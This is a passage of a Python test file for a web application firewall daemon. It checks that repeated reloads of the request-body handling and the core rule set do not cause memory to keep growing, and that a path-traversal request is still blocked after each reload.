                             "Content-Length: 5") + b"a=")
            daemon.reload(daemon.conf_text)
            client.send(b"bcd")
            equal(client.read("POST").status, 200, f"status {i}")
            if i == count // 3:
                before = resident_kb(daemon)
        until(lambda: is_sanitized(daemon) or resident_kb(daemon) < before * 1.1,
              f"memory is near the {before} KiB of before")


@test("the core rule set read again and again does not pile up", heavy=True)
def _():
    needs()
    copy = f"{folder()}/core"
    shutil.copytree(CORE, copy)
    with start(MORE=f'crs_path = "{copy}/*.conf";') as daemon:
        for i in range(5):
            os.utime(f"{copy}/REQUEST-901-INITIALIZATION.conf", ns=(i, i))
            daemon.reload(daemon.conf_text)
            equal(web("/x" + ATTACKS["path traversal"], host="site.test", daemon=daemon).status,
                  403, "status")
            if i == 2:
                before = resident_kb(daemon)
        until(lambda: is_sanitized(daemon) or resident_kb(daemon) < before * 1.15,
              f"memory is near the {before} KiB of before")


main()
